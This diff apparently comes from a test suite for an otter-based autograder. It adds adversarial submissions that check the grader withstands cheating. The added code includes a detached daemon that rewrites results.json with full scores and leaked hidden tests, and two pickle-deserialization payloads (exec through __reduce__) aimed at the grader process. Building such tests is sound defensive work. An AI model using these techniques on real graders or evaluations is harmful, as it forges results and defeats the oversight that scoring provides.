@@ -159,6 +159,88 @@ with open(os.path.join(tempfile.gettempdir(), "wganlab-planted.txt"), "w") as _f
     _f.write(_text)
 """
 
+# Leaves a process running that outlives the grading processes (double fork, new session) and
+# rewrites results.json once otter writes it: every score full, and the text of whatever the
+# process that called it could read (the hidden process reads the check modules) in the output.
+LINGER_SOURCE = """\
+def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):
+    \"\"\"Wrong, and leaves a daemon behind that forges results.json.\"\"\"
+    import glob, json, os, sys, time
+    if os.environ.get("LINGER_PID") != str(os.getpid()):
+        os.environ["LINGER_PID"] = str(os.getpid())
+        text = ""
+        files = glob.glob("**/*.py", recursive=True) + [getattr(m, "__file__", None) or "" for n, m in list(sys.modules.items())
+                                                         if n.startswith("wganlab_checks")]
+        for f in files:
+            if os.path.isfile(f):
+                text += open(f, errors="replace").read()
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                targets = ["/autograder/results/results.json",
+                           os.path.join(os.path.dirname(os.environ.get("TMPDIR", "/tmp")), "out", "results.json")]
+                end = time.time() + 600
+                while time.time() < end:
+                    for t in targets:
+                        try:
+                            with open(t) as fh:
+                                r = json.load(fh)
+                        except Exception:
+                            continue
+                        if "LINGERED" in (r.get("output") or ""):
+                            os._exit(0)
+                        for test in r.get("tests", []):
+                            if "max_score" in test:
+                                test["score"] = test["max_score"]
+                        r["output"] = "LINGERED\\n" + text
+                        with open(t, "w") as fh:
+                            json.dump(r, fh)
+                    time.sleep(0.002)
+            os._exit(0)
+    return 0.5
+"""
+
+# Code a kernel cell sends to otter's grader process (the process holding the hidden tests) inside
+# a pickle: it takes the hidden files from the guard's snapshot and makes them the output students see.
+_GRADER_PAYLOAD = """\
+import gc, sys
+text = ""
+for o in gc.get_objects():
+    if type(o).__name__ == "GradingGuard" and getattr(o, "snapshot", None):
+        text += "\\n".join(v.decode(errors="replace") for k, v in sorted(o.snapshot.items()) if k.endswith(".py"))
+for name, module in list(sys.modules.items()):
+    if name.startswith("wganlab") and hasattr(module, "faces_note"):
+        module.faces_note = lambda *a, text=text, **k: "PICKLED\\n" + text
+"""
+# Through otter's log receiver, which unpickles what arrives on its socket while the kernel runs.
+LOG_PICKLE_CELL = f"""\
+import logging, logging.handlers, pickle, re, socket, struct
+PAYLOAD = {_GRADER_PAYLOAD!r}
+class Evil:
+    def __reduce__(self):
+        return (exec, (PAYLOAD,))
+ports = set()
+for source in get_ipython().user_ns.get("In", []):
+    ports.update((h, int(p)) for h, p in re.findall(r'send_logs\\("([^"]+)", (\\d+)\\)', source))
+for host, port in ports:
+    data = pickle.dumps(Evil())
+    with socket.create_connection((host, port)) as s:
+        s.sendall(struct.pack(">L", len(data)) + data)
+"""
+# Through the results file: otter's last cell pickles the kernel's results, which the grader unpickles.
+RESULTS_PICKLE_CELL = f"""\
+import pickle
+PAYLOAD = {_GRADER_PAYLOAD!r}
+class Evil:
+    def __reduce__(self):
+        return (eval, ("(exec(" + repr(PAYLOAD) + "), __import__('otter.test_files', fromlist=['x']).GradingResults([]))[1]",))
+_dump = pickle.dump
+def dump(obj, f, *args, **kwargs):
+    return _dump(Evil() if type(obj).__name__ == "GradingResults" else obj, f, *args, **kwargs)
+pickle.dump = dump
+"""
+WRONG_W1 = "def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    return 0.5\n"
+
 CASES: tuple[Case, ...] = (
     Case("reference", "the reference solution", lambda ref, stu: ref),
     Case("untouched", "the student notebook with no answer written", lambda ref, stu: stu, zero=ALL,
@@ -212,6 +294,17 @@ CASES: tuple[Case, ...] = (
          "through every channel it has; a cell plants what the kernel can read",
          lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", ENCODE_SOURCE), "kl_divergence", PLANT_CELL),
          zero=frozenset({"wasserstein_1d"}), public=("ValueError",)),
+    Case("lingering_daemon", "a wrong wasserstein_1d leaves a process running that rewrites results.json "
+         "(full scores, the files it read) once otter writes it",
+         lambda ref, stu: replace_function(ref, "wasserstein_1d", LINGER_SOURCE), zero=frozenset({"wasserstein_1d"})),
+    Case("pickles_to_the_log_receiver", "a cell sends code to otter's grader process as a pickled log record; "
+         "wasserstein_1d is wrong",
+         lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", WRONG_W1), "wasserstein_1d", LOG_PICKLE_CELL),
+         zero=frozenset({"wasserstein_1d"})),
+    Case("pickles_into_the_results_file", "a cell makes otter's last cell pickle code for the grader process; "
+         "wasserstein_1d is wrong",
+         lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", WRONG_W1), "wasserstein_1d", RESULTS_PICKLE_CELL),
+         zero=frozenset({"wasserstein_1d"})),
     Case("not_a_notebook", "a file named .ipynb that is not a notebook",
          lambda ref, stu: b"this is my essay, not a notebook\n", zero=ALL, error="not a valid notebook"),
     Case("zip_without_notebook", "an otter submission zip holding no notebook", _zip_without_notebook,
